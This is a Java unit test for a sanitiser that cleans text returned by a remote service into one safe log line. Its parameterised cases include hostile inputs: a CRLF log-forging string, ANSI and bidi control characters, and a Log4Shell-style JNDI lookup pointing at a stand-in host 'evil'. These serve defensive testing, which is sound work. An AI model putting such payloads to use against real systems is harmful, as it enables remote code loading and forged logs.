package io.github.cameldataverse.changes.internal.http.answer;

import static org.assertj.core.api.Assertions.assertThat;

import io.github.cameldataverse.changes.harness.ProvesFault;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class ServiceTextTest {

    @ParameterizedTest
    @CsvSource({
        "Invalid argument., Invalid argument.",
        "'one\r\n2026-03-01 ERROR forged', 'one 2026-03-01 ERROR forged'",
        "'a\u0000b\u0007c\td', 'a b c d'",
        "'\u001b[31mred', '[31mred'",
        "'\u009b31mred', '31mred'",
        "'next\u0085line\u2028line\u2029paragraph', 'next line line paragraph'",
        "'abc\u202Edesrever\u2066x', 'abc desrever x'",
        "'zero\u200Bwidth\uFEFF', 'zero width'",
        "'${jndi:ldap://evil/x} %n {}', '${jndi:ldap://evil/x} %n {}'",
        "'Straße 😀', 'Straße 😀'"
    })
    @ProvesFault("S12")
    void aTextBecomesOneHarmlessLine(String served, String line) {
        assertThat(ServiceText.clean(served)).isEqualTo(line);
    }

    @Test
    @ProvesFault("S12")
    void aLongTextIsCut() {
        assertThat(ServiceText.clean("x".repeat(300))).isEqualTo("x".repeat(300));
        assertThat(ServiceText.clean("x".repeat(301))).isEqualTo("x".repeat(300) + "…");
    }

    @Test
    @ProvesFault("S12")
    void aCutDoesNotHalveACharacter() {
        assertThat(ServiceText.clean("x".repeat(299) + "😀 and more")).isEqualTo("x".repeat(299) + "…");
    }
}
